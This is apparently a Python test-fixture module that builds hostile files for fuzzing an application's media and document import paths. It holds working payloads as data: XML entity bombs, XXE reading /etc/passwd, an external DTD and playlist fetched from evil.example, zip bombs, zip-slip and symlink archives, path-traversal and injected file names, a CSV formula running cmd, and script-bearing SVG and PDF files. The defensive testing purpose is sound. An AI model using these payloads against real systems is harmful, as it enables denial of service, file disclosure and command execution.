"""Files made to do harm, by the kind of way in that would take them."""

import io
import struct
import zipfile
from collections.abc import Iterator

_BOMB_BYTES = 300 * 1024 * 1024
_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 20}">' for n in range(9))
DOCTYPE_BOMB = f"<?xml version='1.0'?><!DOCTYPE a [{_ENTITIES}]>"
DOCTYPE_FILE = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
DOCTYPE_HOST = "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'>"
NAMES = (
    *("../../../etc/cron.d/x.wav", "..\\..\\x.wav", "/etc/passwd", "a\0b.wav", "\u202evaw.exe", "-rf.wav"),
    *("x" * 300 + ".wav", "ü" * 200 + ".wav", "con.wav", "a\nb.wav", "<img src=x onerror=alert(1)>.wav", "."),
    *("=cmd|' /C calc'!A0.csv", "%2e%2e%2fx.wav", "\ud800.wav", " ", ""),
)


def hostile_media() -> Iterator[tuple[str, bytes]]:
    """Yield names and contents for the ways that take recordings and photos."""
    yield (
        "playlist.mp3",
        b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    )
    yield "remote.m3u8", b"#EXTM3U\n#EXTINF:9,\nhttp://evil.example/a.ts\n#EXT-X-ENDLIST\n"
    yield "concat.wav", b"ffconcat version 1.0\nfile /etc/passwd\n"
    yield "session.sdp", b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nm=audio 5004 RTP/AVP 0\n"
    yield "manifest.mpd", b"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'/>"
    yield "picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "page.mp3", b"<html><script>alert(1)</script>" * 100
    yield "text.wav", b"Hello " * 1000
    yield "empty.wav", b""
    form = struct.pack("<IHHIIHH", 16, 1, 1, 8_000, 16_000, 2, 16)
    no_form = struct.pack("<IHHIIHH", 16, 1, 0xFFFF, 0, 0, 0, 0)
    yield "endless.wav", b"RIFF\xff\xff\xff\xffWAVEfmt " + form + b"data\xff\xff\xff\xff"
    yield "no-rate.wav", b"RIFF\x40\0\0\0WAVEfmt " + no_form + b"data\x10\0\0\0" + b"\0" * 16
    yield "claims.mp4", struct.pack(">I4s", 2**31 - 1, b"ftyp") + b"isom" * 20
    yield "deep.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + _nested_atoms(4_000)
    yield "wide.png", _png(2**31 - 1, 2**31 - 1)
    yield "large.png", _png(30_000, 30_000)
    yield "half.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100
    yield "bomb.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + b"\0" * 768 + b"," + b"\0" * 9 + b"\x08\xff" * 50


def hostile_documents() -> Iterator[tuple[str, bytes]]:
    """Yield names and contents for the ways that take documents, transcripts, tables and codebooks."""
    bomb = _zip({"word/document.xml": b"<a>" + b" " * _BOMB_BYTES})
    yield "bomb.docx", bomb
    yield "bomb.xlsx", _zip({"xl/workbook.xml": b" " * _BOMB_BYTES, "xl/_rels/workbook.xml.rels": b"<a/>"})
    yield "climbs.docx", _zip({"../../etc/cron.d/x": b"x", "word/document.xml": b"<a/>"})
    yield "link.docx", _zip_with_link()
    yield "many.docx", _zip({f"word/{n}.xml": b"x" for n in range(20_000)})
    yield "nested.docx", _zip({"word/document.xml": bomb})
    for name, head in (("bomb", DOCTYPE_BOMB), ("file", DOCTYPE_FILE), ("host", DOCTYPE_HOST)):
        xml = f"{head}<a>&e8;&e;</a>".encode()
        yield f"{name}.xml", xml
        yield f"{name}.qdc", f'{head}<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes/></CodeBook>'.encode()
        yield f"{name}.docx", _zip({"word/document.xml": xml, "[Content_Types].xml": xml})
        yield f"{name}.xlsx", _zip({"xl/workbook.xml": xml, "xl/_rels/workbook.xml.rels": xml})
        yield f"{name}.ttml", xml
    yield "deep.qdc", ("<CodeBook>" + "<Codes>" * 100_000).encode()
    yield "deep.json", b"[" * 200_000
    yield "wide.json", b'{"segments": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"
    yield "number.json", b'{"segments": [{"start": 1e999, "end": NaN, "text": "x"}]}'
    yield "long-number.json", b'{"a": ' + b"9" * 100_000 + b"}"
    yield "formula.csv", b"Date,NPS,Market\n2026-01-01,9,=cmd|' /C calc'!A0\n2026-01-02,8,@SUM(1)\n" * 20
    yield "wide.csv", b"a," * 100_000 + b"\n" + b"1," * 100_000
    yield "one-line.csv", b"x" * 5_000_000
    yield "quotes.csv", b'"' * 1_000_001
    yield "nulls.txt", b"\0" * 100_000
    yield "control.txt", bytes(range(256)) * 500
    yield "one-line.txt", b"word " * 400_000
    yield "letters.txt", b"a" * 2_000_000
    yield "heading.md", b"# a" + b" " * 200_000 + b"x"
    yield "cut-words.txt", b"so long a line that it is cut within a wo-\n" * 100_000
    yield "addresses.csv", b"text\n" + b"a.b-c+" * 100_000 + b"\n"
    yield "regex.srt", b"1\n00:00:00,000 --> 00:00:0" + b"0" * 100_000
    yield "regex.vtt", b"WEBVTT\n\n" + b"<v " * 100_000
    yield "regex.txt", (b"[" * 1_000 + b"00:00:00" + b" " * 50_000 + b"\n") * 5
    yield (
        "loop.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield (
        "script.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    )
    yield "half.parquet", b"PAR1" + b"\xff" * 200 + b"PAR1"
    yield "old.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 2_000


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def _zip_with_link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _nested_atoms(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = struct.pack(">I4s", len(content) + 8, b"moov") + content
    return content


def _png(width: int, height: int) -> bytes:
    import zlib

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
